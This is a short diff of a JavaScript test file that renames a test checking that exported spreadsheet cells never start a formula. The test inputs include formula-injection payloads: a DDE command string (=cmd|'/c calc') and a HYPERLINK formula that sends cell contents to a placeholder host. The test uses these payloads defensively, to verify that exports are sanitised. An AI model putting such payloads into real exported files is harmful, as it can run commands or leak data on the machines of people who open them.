@@ -186,7 +186,7 @@ test('no cell starts a formula, whatever precedes it, and a negative amount stay
   assert.is((await read(await ann.exportRedeems())).rows[0]?.[5], "'=cmd|calc");
 });
 
-test('whatever a spreadsheet takes for the separator, no cell starts a formula, and the import reads the text as it was', () => {
+test('no cell starts a formula behind any separator, and the import reads the text as it was', () => {
   for (const text of [
     'x;=HYPERLINK("http://x?"&A1);y',
     "x;=cmd|'/c calc'!A0;y",
